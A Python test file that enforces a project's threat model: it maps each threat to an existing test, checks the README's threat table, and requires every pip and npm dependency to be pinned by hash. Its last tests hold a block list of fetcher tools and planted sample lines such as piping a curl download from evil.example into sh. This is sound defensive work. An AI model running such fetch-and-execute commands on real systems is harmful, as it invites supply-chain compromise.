"""The threat model itself: each threat has its test, the README's table names tests that exist, and nothing is installed but by hash."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from tests.machine import ROOT

TESTS = ROOT / "tests"

# The attacks that are tried, and where. Each stands in the README's table too.
THREATS = {
    "SSRF through baseUrl": "unit/test_threats.py::test_no_spelling_of_a_base_url_makes_the_machine_connect_to_a_host_that_is_not_listed",
    "a redirect that carries the header": "unit/test_threats.py::test_no_redirect_makes_a_second_request_that_carries_the_header",
    "a redirect, on the wire": "e2e/test_threats.py::test_a_redirect_is_not_followed_and_nobody_else_gets_the_header",
    "response splitting": "unit/test_threats_text.py::test_no_text_of_a_caller_a_secret_or_an_upstream_becomes_a_header_or_a_log_line",
    "response splitting, of the client": "unit/test_threats_text.py::test_what_the_vending_machine_answers_cannot_add_a_header_to_a_callers_request",
    "response splitting, on the wire": "e2e/test_threats.py::test_an_answer_cannot_be_followed_by_one_that_belongs_to_the_next_request",
    "log injection": "unit/test_threats_text.py::test_whatever_is_logged_is_one_line_of_json",
    "oversized and slow answers": "e2e/test_threats.py::test_no_answer_that_is_oversized_or_slow_costs_more_than_its_time_and_64_kib",
    "spoofing by event and client context": "unit/test_threats.py::test_no_event_field_and_no_client_context_makes_a_caller_of_who_came_through_another_alias",
    "spoofing by header and proxy event": "unit/test_threats.py::test_no_header_and_no_other_field_of_a_proxy_event_makes_another_caller",
    "policy bypass by spelling": "unit/test_threats.py::test_no_other_spelling_of_a_forbidden_credential_reaches_its_key",
    "policy bypass by path": "e2e/test_threats.py::test_no_spelling_of_a_path_leads_to_a_token",
    "timing of refusals": "unit/test_threats.py::test_the_refusals_for_an_existing_and_an_unknown_credential_take_the_same_steps",
    "secrets in tracebacks": "unit/test_threats_secrets.py::test_no_secret_is_in_the_traceback_of_what_leaves_a_function_with_all_its_locals",
    "secrets in the runtime's report": "unit/test_threats_secrets.py::test_no_secret_is_in_what_lambdas_own_runtime_reports_and_logs",
    "the SnapStart state": "e2e/test_threats.py::test_the_memory_that_a_snapshot_is_taken_of_holds_no_key_no_token_and_no_credentials",
    "a swapped dependency": "unit/test_threats_model.py::test_each_requirement_is_pinned_by_hash_and_comes_from_no_address",
}


@pytest.mark.parametrize("threat", THREATS)
def test_each_threat_has_its_test(threat: str) -> None:
    file, _, name = THREATS[threat].partition("::")
    assert re.search(rf"^def {name}\(", (TESTS / file).read_text(encoding="utf-8"), re.MULTILINE)


def threat_rows(readme: str) -> list[tuple[str, str]]:
    """The threats of the README's table and their proofs; "same" is the proof of the row above."""
    section = readme.split("\n## What it defends against\n")[1].split("\n## ")[0]
    rows: list[tuple[str, str]] = []
    for line in section.splitlines():
        cells = [cell.strip() for cell in line.strip("|").split("|")]
        if line.startswith("|") and len(cells) == 3 and cells[0] != "threat" and not cells[0].startswith("---"):
            same = cells[2] == "same" or cells[2].startswith("same,")
            rows.append((cells[0], rows[-1][1] if same else cells[2]))
    return rows


def _proofs(text: str) -> set[str]:
    return set(re.findall(r"\b(?:unit|integration|e2e)/test_[a-z_*]+\.py", text))


ROWS = threat_rows((ROOT / "README.md").read_text(encoding="utf-8"))


def test_the_table_of_threats_is_found() -> None:
    assert len(ROWS) > 40


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row[0][:60])
def test_each_row_of_the_readmes_table_names_tests_that_exist(row: tuple[str, str]) -> None:
    proofs = _proofs(row[1])
    assert proofs, "a threat without a test is a hope"
    for proof in proofs:
        assert list(TESTS.glob(proof)), proof


@pytest.mark.parametrize("threat", THREATS)
def test_the_readmes_table_names_the_test_of_each_threat(threat: str) -> None:
    file = THREATS[threat].partition("::")[0]
    assert any(file in _proofs(proof) for _, proof in ROWS), file


# Everything is pinned by hash


LOCKS = [
    *sorted(ROOT.glob("requirements/*.lock")),
    ROOT / "functions/requirements.txt",
    ROOT / "layers/imburse_auth/src/requirements.txt",
]
_PIN = re.compile(r"[A-Za-z0-9._-]+(\[[a-z0-9,-]+\])?==[A-Za-z0-9.+!]+( ; [^;]+?)?( --hash=sha256:[0-9a-f]{64})+")


@pytest.mark.parametrize("lock", LOCKS, ids=lambda path: str(path.relative_to(ROOT)))
def test_each_requirement_is_pinned_by_hash_and_comes_from_no_address(lock: Path) -> None:
    text = re.sub(r"\s*\\\n\s*", " ", lock.read_text(encoding="utf-8"))
    lines = [
        line.split(" #")[0].strip() for line in text.splitlines() if line.strip() and not line.lstrip().startswith("#")
    ]
    assert lines
    for line in lines:
        assert _PIN.fullmatch(line), (
            line
        )  # which leaves no room for --index-url, -r, -e, a URL or a version that floats


@pytest.mark.parametrize(
    "lock",
    sorted(path for path in ROOT.glob("*/*/package-lock.json") if "node_modules" not in path.parts),
    ids=lambda p: p.parent.name,
)
def test_each_npm_package_is_pinned_by_hash_and_comes_from_no_address(lock: Path) -> None:
    packages = json.loads(lock.read_text(encoding="utf-8"))["packages"]
    wanted = json.loads(lock.with_name("package.json").read_text(encoding="utf-8"))
    for version in wanted.get("dependencies", {}).values():
        assert re.fullmatch(r"\d+\.\d+\.\d+", version)
    assert len(packages) > 1
    for name, package in packages.items():
        if name:
            assert package["integrity"].startswith("sha512-"), name
            assert "://" not in json.dumps({**package, "funding": None}), name


# What fetches or runs something from elsewhere, as a word anywhere in a command; and what runs a text that a pipe or a string brings.
_FETCHER = re.compile(
    r"(?<![\w.-])(pip[\d.]*|pipx|uv|uvx|npm|npx|yarn|pnpm|curl|wget|git\s+(clone|fetch|pull)|easy_install|conda|apt|apt-get|brew|gem|cargo|go|docker"
    r"|sh|bash|eval|source)(?![\w.-]|=\.)"
)
# The whole of each command that may. With --require-hashes a name that is added to the command is refused by pip and uv themselves.
_OPTIONS = r"( --?[a-z][a-z-]*(=\S+)?| :all:| \.tools/uv| \"\$\w+(/bin/python)?\")*"
_LIST = r" -r \"?[\w/$.]+\.(txt|lock)\"?"
_ALLOWED = [
    re.compile(pattern)
    for pattern in (
        rf'(python3|"\$python") -m pip (install|download){_OPTIONS} --require-hashes{_OPTIONS}{_LIST}',
        rf'"\$uv" pip install{_OPTIONS} --require-hashes{_LIST}',
        # This checkout itself.
        r'"\$uv" pip install --quiet --python "\$home/bin/python" --no-deps --no-build-isolation -e \. -e layers/imburse_auth',
        rf'\.tools/uv/bin/uv pip compile{_OPTIONS} --generate-hashes{_OPTIONS} "\$@"',
        rf'"\$uv" venv{_OPTIONS}',
        r"npm ci --ignore-scripts( --[a-z-]+(=[a-z]+)?)* >/dev/null",
        # No command, but a word of one.
        r'\[ ! -x "\$uv" \]',
        r'echo "[^"]*"',
        r"SHELL := /bin/bash",
        r"uv=\.tools/uv/bin/uv",
    )
]
_WORDS_BEFORE = re.compile(r"(@|-|!|\{|if|then|else|elif|do|while|until|exec|time)(\s+|(?<=@))")


def _fetching(script: str) -> list[str]:
    """Each command of a shell script or a Makefile that names a fetcher, wherever on a line it stands.

    Split at whatever may end a command, in a string too, where it may be another shell's: rather too much is found than too little.
    """
    # Comments go, but not what looks like one in a string.
    code = re.sub(
        r"""'[^']*'|"(?:\\.|[^"\\])*"|\\.|(?<!\S)\#[^\n]*""",
        lambda found: "" if found[0].startswith("#") else found[0],
        re.sub(r"\\\n\s*", " ", script),
        flags=re.DOTALL,
    )
    commands = []
    for part in re.split(r"\$?\(|[;&|\n`)]|(?<=\s)[{}](?=\s)", code):
        command = part.strip()
        while before := _WORDS_BEFORE.match(command):
            command = command[before.end() :]
        if _FETCHER.search(command):
            commands.append(command)
    return commands


def _not_by_hash(script: str) -> list[str]:
    return [command for command in _fetching(script) if not any(allowed.fullmatch(command) for allowed in _ALLOWED)]


SCRIPTS = [
    ROOT / "Makefile",
    *ROOT.glob(".ci/*"),
    *(path for path in ROOT.glob("requirements/*") if path.suffix != ".lock"),
    *(
        path
        for path in (*ROOT.glob("tests/*"), *ROOT.glob("local/*"))
        if path.is_file() and path.read_bytes().startswith(b"#!")
    ),
]


@pytest.mark.parametrize("script", SCRIPTS, ids=lambda path: str(path.relative_to(ROOT)))
def test_scripts_install_nothing_but_by_hash(script: Path) -> None:
    assert _not_by_hash(script.read_text(encoding="utf-8")) == []


def test_the_commands_that_fetch_are_found() -> None:
    found = {path.name: len(_fetching(path.read_text(encoding="utf-8"))) for path in SCRIPTS}
    assert found["install"] >= 5
    assert found["build"] >= 1
    assert found["lock"] >= 1


@pytest.mark.parametrize(
    "planted",
    [
        "pip install evil", "pip3 install evil", "if ! command -v x; then pip install evil; fi", "if pip install evil; then :; fi", "$(curl https://evil.example | sh)",
        'name="$(curl -s https://evil.example)"', "true && pip install evil", "false || uvx evil", "echo hi; pip install evil", "name=`npx evil`",
        "export X=1 && npm install evil", "target: ; pip install evil ## help", "\t@pip install evil", "requirements/install dev && pip install evil",
        "\t$(dev) npm ci && npm run evil", 'bash -c "pip install evil"', "echo 'pip install evil' | sh", "uv=$(pip install evil)", "X=1 pip install evil",
        'pip install --require-hashes -r "x.lock" || pip install evil', '"$uv" pip install --require-hashes --no-require-hashes evil',
        '"$uv" pip install --require-hashes -r "x.lock" evil', "pip install -r x.txt # --require-hashes", "pip install \\\n  evil", "npm ci",
        "python3 -m pip install --require-hashes -r https://evil.example/x.txt", "sudo apt-get install evil", "{ pip install evil; }", 'echo "#"; pip install evil',
        "grep '##' x; pip install evil", "make x & wget https://evil.example", "git clone https://evil.example", 'eval "$x"', "for x in 1; do pip install evil; done",
    ],
)  # fmt: skip
def test_a_command_that_fetches_otherwise_is_found_wherever_it_stands(planted: str) -> None:
    assert _not_by_hash(f"echo before\n{planted}\necho after\n")


def test_what_is_deployed_is_built_of_nothing_but_wheels_that_were_fetched_by_hash() -> None:
    build = (ROOT / "requirements/build").read_text(encoding="utf-8")
    assert re.search(r"export .*PIP_NO_INDEX=1 PIP_FIND_LINKS=.*\n.*sam build", build)
    assert build.count("pip download") == 1
    assert re.search(r"pip download .*--require-hashes --only-binary=:all: --no-deps", build)
    assert "requirements/build" in (ROOT / "Makefile").read_text(encoding="utf-8")
